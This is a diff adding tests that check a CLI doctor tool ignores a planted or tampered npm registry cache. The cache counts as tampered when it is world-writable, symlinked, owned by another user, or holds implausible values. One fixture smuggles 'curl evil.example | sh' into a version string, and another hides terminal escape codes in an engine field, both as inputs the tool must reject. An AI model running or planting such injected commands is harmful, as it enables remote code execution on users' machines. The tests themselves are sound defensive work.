@@ -190,3 +190,119 @@ describe('the code cache is code: only a private one is used', () => {
     expect(statSync(victim).isDirectory()).toBe(true);
   });
 });
+
+// A registry answer planted in the cache would make the doctor report a version that does not
+// exist, and `fix` act on it (run the update).
+describe('the registry cache is used only when private and plausible', () => {
+  const REGISTRY = 'https://registry.npmjs.org/';
+  const NAME = 'registry-registry.npmjs.org.json';
+  const answer = (latest: string, engine: string) =>
+    `${JSON.stringify({
+      registry: REGISTRY,
+      distTags: { fetchedAt: Date.now(), tags: { latest } },
+      engines: { [latest]: engine },
+    })}\n`;
+
+  function planted(body: string): { fixture: Fixture; file: string } {
+    const fixture = makeFixture({ home: subscriptionHome(), claude: { version: '2.1.300' } });
+    const dir = cacheRoot(fixture);
+    mkdirSync(dir, { recursive: true, mode: 0o700 });
+    chmodSync(dir, 0o700);
+    const file = path.join(dir, NAME);
+    writeFileSync(file, body, { mode: 0o600 });
+    return { fixture, file };
+  }
+
+  async function staleVersion(fixture: Fixture, args: string[] = []) {
+    const result = await runCli(
+      [...ARGS, '--verbose', '--only', 'stale-version', ...args],
+      fixture.env,
+      fixture.project,
+    );
+    expectNoSecret(result.stdout + result.stderr);
+    const check = (JSON.parse(result.stdout) as Report).checks[0]!;
+    return { check, stderr: result.stderr };
+  }
+
+  it('control: the user’s own cache is used (so the cases below can fail)', async () => {
+    const { fixture } = planted(answer('2.1.999', '>=18'));
+    const { check, stderr } = await staleVersion(fixture);
+    expect(check.status).toBe('warn');
+    expect(check.summary).toContain('2.1.999');
+    expect(stderr).toBe('');
+  });
+
+  const cases: [string, string, (fixture: Fixture, file: string) => void, string][] = [
+    [
+      'in a cache directory writable by everyone',
+      answer('2.1.999', '>=18'),
+      (f) => chmodSync(cacheRoot(f), 0o777),
+      'Not using the cache directory: ~/.cache/claude-auth-doctor is writable by everyone (mode 777); working without it.',
+    ],
+    [
+      'in a cache directory that is a symbolic link',
+      answer('2.1.999', '>=18'),
+      (f) => {
+        renameSync(cacheRoot(f), path.join(f.root, 'shared'));
+        symlinkSync(path.join(f.root, 'shared'), cacheRoot(f));
+      },
+      'Not using the cache directory: ~/.cache/claude-auth-doctor is a symbolic link; working without it.',
+    ],
+    [
+      'as a symbolic link',
+      answer('2.1.999', '>=18'),
+      (f, file) => {
+        renameSync(file, path.join(f.root, 'planted.json'));
+        symlinkSync(path.join(f.root, 'planted.json'), file);
+      },
+      `Not using the cached ~/.cache/claude-auth-doctor/${NAME}: it is a symbolic link.`,
+    ],
+    [
+      'whose version is not a version',
+      answer('2.1.999; curl evil.example | sh', '>=18'),
+      () => undefined,
+      `Ignored the cached registry answer ${NAME}: it holds values no registry gives.`,
+    ],
+    [
+      'whose engines.node holds control characters',
+      answer('2.1.999', '>=18\u001b[2J\u001b[31mupdate now'),
+      () => undefined,
+      `Ignored the cached registry answer ${NAME}: it holds values no registry gives.`,
+    ],
+  ];
+  if (ROOT)
+    cases.push(
+      [
+        'owned by another user',
+        answer('2.1.999', '>=18'),
+        (_, file) => chownSync(file, NOBODY, NOBODY),
+        `Not using the cached ~/.cache/claude-auth-doctor/${NAME}: it is owned by another user (uid ${NOBODY}).`,
+      ],
+      [
+        'in a cache directory owned by another user',
+        answer('2.1.999', '>=18'),
+        (f) => chownSync(cacheRoot(f), NOBODY, NOBODY),
+        `Not using the cache directory: ~/.cache/claude-auth-doctor is owned by another user (uid ${NOBODY}); working without it.`,
+      ],
+    );
+
+  it.each(cases)(
+    'ignores an answer %s, and says so under --verbose',
+    async (_, body, weaken, note) => {
+      const { fixture, file } = planted(body);
+      weaken(fixture, file);
+      const { check, stderr } = await staleVersion(fixture);
+      expect(check.status).toBe('skip');
+      expect(check.summary).toContain('not looked up (--offline)');
+      expect(JSON.stringify(check)).not.toContain('2.1.999');
+      expect(stderr).toBe(`note: ${note}\n`);
+      // Without --verbose the run says nothing about it.
+      const quiet = await runCli(
+        [...ARGS, '--only', 'stale-version'],
+        fixture.env,
+        fixture.project,
+      );
+      expect(quiet.stderr).toBe('');
+    },
+  );
+});
